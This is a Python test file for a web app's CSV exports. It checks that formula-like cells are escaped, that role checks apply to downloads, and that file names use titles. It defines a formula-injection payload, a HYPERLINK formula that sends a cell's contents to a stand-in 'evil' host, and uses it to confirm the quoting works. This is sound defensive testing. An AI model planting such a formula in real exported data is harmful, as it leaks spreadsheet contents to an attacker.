"""Every table on the desk downloads as CSV (cells a spreadsheet would run as formulas are quoted,
through bank.csv_safety), and every table sorts and filters in the page (desk.js)."""

import csv
import html as htmlmod
import io
import re
from urllib.parse import quote

import pytest

from bank.csv_safety import file_stem
from proctor.people.users import ensure_user
from proctor.teams.disputes import raise_dispute
from tests.bot.test_leads_flow import ALPHA, ANN, BETA, LEAD_A, LEAD_B, crafted_teams, pending_exam
from tests.desk_helpers import DeskClient, DeskEnv
from tests.papers_fixture import small_paper
from tests.proctor.test_leads_data import Crafted
from tests.reads import answers_in

ADMIN = 1
EVIL = '=HYPERLINK("http://evil/?"&A1)'


@pytest.fixture
async def env(tmp_path):
    e = DeskEnv(tmp_path, admins=(ADMIN,))
    await e.seed(small_paper())
    await e.start()
    e.api.user(LEAD_A, "Lea")
    e.api.user(ADMIN, "Boss")
    e.api.group(ALPHA, "Alpha").set_admins([LEAD_A])
    e.api.group(BETA, "Beta").set_admins([LEAD_B])
    yield e
    await e.close()


def csv_links(html: str) -> list[str]:
    return [htmlmod.unescape(h) for h in re.findall(r'href="(/desk/[a-z]+\.csv[^"]*)" download', html)]


async def test_every_table_has_a_csv_download_with_formulas_quoted(env):
    c = await crafted_teams(env)
    attempt = await pending_exam(env, c)
    await raise_dispute(env.db, question_id=(await answers_in(env.db, attempt))[0].question_id, user_id=ANN,
                        chat_id=ALPHA, reason="=1+1 is wrong", now=env.clock.now())
    await ensure_user(env.db, ANN, EVIL, None, env.clock.now())  # a candidate whose name is a spreadsheet formula
    lea, admin = DeskClient(env), DeskClient(env)
    try:
        await lea.login(LEAD_A)
        await admin.login(ADMIN, "Boss")
        pages = [(lea, "/desk/team", {"team": str(ALPHA), "period": "all"}),
                 (lea, "/desk/team", {"team": str(ALPHA), "paper": "demo"}),
                 (lea, "/desk/candidate", {"team": str(ALPHA), "user": str(ANN)}),
                 (admin, "/desk/items", {}), (admin, "/desk/audit", {})]
        await admin.post("/desk/items", {"action": "retire", "target": "1"})  # an audit entry
        seen = set()
        for client, path, params in pages:
            status, page, _ = await client.get(path, **params)
            assert status == 200
            tables = re.findall(r'<table id="([^"]+)" class="([^"]*)"', page)
            assert tables and all("sortable" in cls for _, cls in tables), (path, tables)
            links = csv_links(page)
            assert links, path
            for link in links:
                status, body, headers = await client.get(link)
                assert status == 200 and headers["Content-Type"].startswith("text/csv"), link
                rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
                assert rows[0] and all(len(r) == len(rows[0]) for r in rows), link
                cells = [cell for row in rows for cell in row]
                assert EVIL not in cells and not any(cell.startswith("=") for cell in cells), link
                seen.add(link.split("?")[0])
        assert seen == {"/desk/team.csv", "/desk/candidate.csv", "/desk/items.csv", "/desk/disputes.csv",
                        "/desk/audit.csv"}
        # the formula name is there, quoted
        _, body, _ = await lea.get("/desk/team.csv", team=str(ALPHA), period="all")
        assert [cell for row in csv.reader(io.StringIO(body)) for cell in row if "HYPERLINK" in cell] == ["'" + EVIL]
        _, body, _ = await lea.get("/desk/team.csv", team=str(ALPHA), period="all", table="mastery")
        assert "'=HYPERLINK" in body and body.splitlines()[0].endswith(",(no topic)")  # no topic, no subject
        # CSV downloads check the role as the pages do
        leb = DeskClient(env)
        await leb.login(LEAD_B, "Leb")
        assert (await leb.get("/desk/team.csv", team=str(ALPHA)))[0] == 403
        assert (await leb.get("/desk/candidate.csv", team=str(ALPHA), user=str(ANN)))[0] == 403
        await leb.close()
    finally:
        await lea.close()
        await admin.close()


async def test_downloads_are_named_after_titles_and_names_never_ids(env):
    """A CSV's file name says whose table it is in the words people use: the team's title (any script,
    RFC 6266 `filename*`, with an ASCII `filename` beside it), the candidate's name, the paper's title."""
    await Crafted(env.db).group(ALPHA, "二组 / 夜班")  # the team's title, before crafted_teams names it
    c = await crafted_teams(env)
    await pending_exam(env, c)
    lea = DeskClient(env)
    try:
        await lea.login(LEAD_A)
        team = quote("二组-夜班")
        wanted = {("/desk/team.csv", ()): f"leaderboard-{team}-all.csv",
                  ("/desk/team.csv", (("table", "mastery"),)): f"mastery-{team}-all.csv",
                  ("/desk/team.csv", (("table", "idle"),)): f"idle-{team}.csv",
                  ("/desk/team.csv", (("paper", "demo"),)): f"paper-{quote(file_stem(small_paper().title))}-{team}.csv",
                  ("/desk/candidate.csv", (("user", str(ANN)),)): "answers-Ann.csv",
                  ("/desk/candidate.csv", (("user", str(ANN)), ("table", "disputes"))): "disputes-Ann.csv"}
        for (path, extra), name in wanted.items():
            status, _, headers = await lea.get(path, team=str(ALPHA), period="all", **dict(extra))
            disposition = headers["Content-Disposition"]
            assert status == 200, path
            assert str(abs(ALPHA)) not in disposition and str(ANN) not in disposition, disposition
            if name.isascii() and "%" not in name:
                assert disposition == f'attachment; filename="{name}"'
            else:
                fallback = re.search(r'filename="([^"]*)"', disposition).group(1)
                assert fallback.isascii() and fallback.endswith(".csv") and "--" not in fallback, disposition
                assert f"filename*=UTF-8''{name}" in disposition
    finally:
        await lea.close()
